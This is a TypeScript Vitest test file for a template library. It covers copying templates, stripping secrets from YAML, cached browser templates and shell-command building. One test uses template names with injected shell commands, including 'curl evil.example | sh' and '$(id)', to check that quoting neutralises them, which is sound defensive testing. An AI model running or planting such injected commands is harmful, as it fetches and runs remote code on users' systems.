import { describe, expect, it } from 'vitest'
import { copyOf, getCommand, oldTemplateForget, oldTemplatesOf, withoutSecrets, wordsOf } from '../src/lib/templates'

describe('a copy of a template', () => {
  const given = { id: '1', author: 'bob', name: 'mnist', summary: 's', description: '# d', categories: [{ name: 'vision' }], tags: [{ name: 'a' }], isPublic: true, groupList: ['lab'], protocol: 'name: x\n' }
  it('is private, and says the same', () => {
    expect(copyOf(given as never, ['other'])).toEqual({ name: 'mnist', summary: 's', description: '# d', categories: ['vision'], tags: ['a'], isPublic: false, groupList: [], protocol: 'name: x\n' })
  })
  it('takes no name that is there', () => {
    expect(copyOf(given as never, ['mnist', 'mnist-2']).name).toBe('mnist-3')
    expect(copyOf({ ...given, name: 'x'.repeat(64) } as never, ['x'.repeat(64)]).name).toHaveLength(58)
  })
})

describe('templates', () => {
  it('have no secrets, and lose no comment', () => {
    const text = 'name: x # mine\nsecrets:\n  token: abc # of the store\n  other: [1, 2]\n'
    const kept = withoutSecrets(text)
    expect(kept).not.toContain('abc')
    expect(kept).not.toContain('[1, 2]')
    expect(kept).toContain('# mine')
    expect(kept).toContain('token: ""')
    expect(withoutSecrets('extras: &hidden\n  token: abc\nsecrets: *hidden\n')).not.toContain('secrets')
    expect(withoutSecrets('secrets: |\n  token: abc\n')).not.toContain('abc')
    expect(withoutSecrets('secrets: {a: b}\nname: [\n')).toBe('secrets: {a: b}\nname: [\n')
    expect(withoutSecrets('name: x # mine\n')).toBe('name: x # mine\n')
  })
  it('that a browser kept are found until they are forgotten', () => {
    localStorage.setItem('skep.templates.odd', '[null, {"name": 1}, {"name": "a", "text": "name: a"}, "b", {"name": "c", "text": "name: c"}]')
    expect(oldTemplatesOf('odd').map(({ name }) => name)).toEqual(['a', 'c'])
    expect(oldTemplatesOf('ann')).toEqual([])
    expect(oldTemplateForget('odd', 'a')).toEqual([{ name: 'c', text: 'name: c' }])
    expect(oldTemplateForget('odd', 'c')).toEqual([])
    expect(localStorage.getItem('skep.templates.odd')).toBeNull()
    localStorage.setItem('skep.templates.odd', 'not JSON')
    expect(oldTemplatesOf('odd')).toEqual([])
  })
  it('have a command that runs nothing of their names', () => {
    expect(getCommand({ author: 'ann', name: 'mnist' })).toBe('skep template get ann~mnist > mnist.yaml')
    expect(getCommand({ author: 'ann', name: "x; curl evil.example | sh #'" })).toBe("skep template get 'ann~x; curl evil.example | sh #'\\''' > 'x; curl evil.example | sh #'\\''.yaml'")
    expect(getCommand({ author: 'ann', name: '../$(id)' })).toBe("skep template get 'ann~../$(id)' > '$(id).yaml'")
  })
  it('have words, each once', () => {
    expect(wordsOf(' vision, small ,,vision')).toEqual(['vision', 'small'])
    expect(wordsOf('')).toEqual([])
  })
})
